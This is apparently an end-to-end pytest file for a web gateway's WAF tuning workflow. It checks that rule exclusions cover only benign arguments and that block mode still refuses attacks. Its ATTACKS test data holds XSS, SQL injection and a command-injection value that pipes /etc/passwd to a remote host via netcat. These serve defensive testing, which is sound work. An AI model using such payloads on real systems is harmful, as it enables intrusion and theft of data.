"""The tuning workflow end to end, through a running gateway and the real `stockade`.

A crs route in detect mode gets benign requests that trip CRS (an address-like
landmark, a label that starts with a number and an SQL word) and attacks, some
in the very arguments the benign requests use. `stockade waf tune` proposes
the rule on those arguments only, `--write` puts it in the config, and the
gateway in block mode with that config passes the benign requests and still
refuses every attack; `stockade replay` of the log agrees.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from waf_harness import HOST, RecordingUpstream, ThreadedGateway

from stockade.config import load_config
from stockade.proxy.settings import ProxyConfig

STOCKADE = (sys.executable, "-m", "stockade.cli.main")

CONFIG = """\
# the e2e test's config: comments and layout must survive --write
[proxy]
access_log = "{log}"   # tune reads this

[[proxy.listeners]]
address = "127.0.0.1"
port = 18443

[proxy.pools.api]
servers = ["127.0.0.1:{port}"]
health = {{ enabled = false }}

[[proxy.routes]]
name = "orders"
path_prefix = "/orders/"
pool = "api"
waf = "crs"
waf_action = "detect"   # rolling out: switch to "block" once tuned

# everything else
[[proxy.routes]]
name = "rest"
path_prefix = "/"
pool = "api"
"""


@dataclass(frozen=True)
class Sent:
    body: dict[str, Any]
    chunked: bool = False


LANDMARKS = ("4 Insert Road, Unit 7/2", "12 Select Street", "7 Update Lane, Flat 3/1")
BENIGN = (
    *(
        Sent({"delivery": {"landmark": text}, "qty": n}, chunked=n % 2 == 0)
        for n, text in enumerate(LANDMARKS * 2)
    ),
    Sent({"company": {"label": "5 Select Lane"}}),
    Sent({"company": {"label": "9 Insert Way"}}),
)
ATTACKS = (
    # in the arguments the benign requests use: the other rules must still catch them
    Sent({"delivery": {"landmark": "<script>alert(document.cookie)</script>"}}),
    Sent({"company": {"label": "; cat /etc/passwd | nc 198.18.9.9 4444"}}, chunked=True),
    Sent({"q": "1' or '1'='1' union select * from users--"}),
    Sent({"comment": "<img src=x onerror=alert(1)>", "ref": "' or 1=1 --"}, chunked=True),
)


def _request(sent: Sent) -> bytes:
    body = json.dumps(sent.body).encode()
    head = (
        f"POST /orders/new HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: acme-ios/5.2\r\n"
        "Accept: application/json\r\nContent-Type: application/json\r\nConnection: close\r\n"
    )
    if not sent.chunked:
        return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    # chunked, in small pieces, as streaming clients send it
    pieces = [body[i : i + 7] for i in range(0, len(body), 7)]
    chunks = b"".join(f"{len(p):x}\r\n".encode() + p + b"\r\n" for p in pieces)
    return f"{head}Transfer-Encoding: chunked\r\n\r\n".encode() + chunks + b"0\r\n\r\n"


def _gateway(path: Path) -> ThreadedGateway:
    def config(upstream: RecordingUpstream) -> ProxyConfig:
        text = path.read_text()
        if "{port}" in text:  # first start: the upstream's port is known now
            text = text.replace("{port}", str(upstream.port))
            path.write_text(text)
        else:  # later starts: a new upstream
            text = text.replace(_port(text), str(upstream.port))
            path.write_text(text)
        return load_config(path).proxy

    return ThreadedGateway(config)


def _port(text: str) -> str:
    return text.split('servers = ["127.0.0.1:', 1)[1].split('"', 1)[0]


def _stockade(config: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*STOCKADE, "--config", str(config), *args],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path]]:
    """The config and the access log after the detect-mode traffic."""
    home = tmp_path_factory.mktemp("tune")
    log = home / "access.log"
    config = home / "stockade.toml"
    config.write_text(CONFIG.replace("{log}", str(log)).replace("{{", "{").replace("}}", "}"))
    with _gateway(config) as gw:
        for sent in BENIGN + ATTACKS:
            status, _ = gw.send(_request(sent))
            assert status == 200  # detect mode: everything passes
    yield config, log


def test_detect_mode_records_names_and_points_never_values(recorded: tuple[Path, Path]) -> None:
    _, log = recorded
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    flagged = [line for line in lines if line.get("reason") == "waf_detect:blocked"]
    assert len(flagged) == len(BENIGN) + len(ATTACKS)
    assert all(line["waf"]["mode"] == "crs" and line["waf"]["score"] >= 5 for line in flagged)
    variables = {m["var"] for line in flagged for m in line["waf"]["matches"]}
    assert "ARGS:json.delivery.landmark" in variables
    text = log.read_text()
    for value in ("Insert Road", "union select", "<script>", "onerror"):
        assert value not in text


def test_tune_proposes_the_rule_on_the_benign_arguments_only(recorded: tuple[Path, Path]) -> None:
    config, _ = recorded
    result = _stockade(config, "waf", "tune", "--route", "orders", "--json", "--no-replay")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    proposed = {(p["rule"], tuple(p["arguments"])) for p in report["proposals"]}
    assert ("942360", ("json.delivery.landmark",)) in proposed
    assert ("942360", ("json.company.label",)) in proposed
    assert all(p["scope"] == "argument" for p in report["proposals"])
    attack_args = {"json.q", "json.comment", "json.ref"}
    assert not {a for _, args in proposed for a in args} & attack_args
    landmark = next(p for p in report["proposals"] if p["arguments"] == ["json.delivery.landmark"])
    assert landmark["requests"] == len(LANDMARKS) * 2 and len(landmark["samples"]) == 5
    assert landmark["would_pass"] == len(LANDMARKS) * 2
    assert report["would_pass"] == len(BENIGN)
    assert report["still_flagged"] == len(ATTACKS)


def test_write_then_block_passes_the_benign_and_refuses_the_attacks(
    recorded: tuple[Path, Path],
) -> None:
    config, log = recorded
    before = config.read_text()
    result = _stockade(config, "waf", "tune", "--route", "orders", "--write")
    assert result.returncode == 0, result.stderr
    assert "allowed -> waf:blocked: 4" in result.stdout  # the replay, in block mode
    after = config.read_text()
    assert all(line in after.splitlines() for line in before.splitlines())
    assert after.index("[[proxy.routes.waf_exclusions]]") < after.index("# everything else")
    backups = list(config.parent.glob("stockade.toml.*.bak"))
    assert [b.read_text() for b in backups] == [before]
    assert _stockade(config, "check-config").returncode == 0
    # tuned: nothing more to propose from the same log
    again = json.loads(_stockade(config, "waf", "tune", "--route", "orders", "--json").stdout)
    assert again["proposals"] == [] and again["already_passing"] == len(BENIGN)

    config.write_text(after.replace('waf_action = "detect"', 'waf_action = "block"'))
    replayed = _stockade(config, "replay", str(log), "--json")
    assert replayed.returncode == 0, replayed.stderr
    assert json.loads(replayed.stdout)["by_change"] == {"allowed -> waf:blocked": len(ATTACKS)}
    with _gateway(config) as gw:
        for sent in BENIGN:
            assert gw.send(_request(sent))[0] == 200, sent
        for sent in ATTACKS:
            assert gw.send(_request(sent))[0] == 403, sent
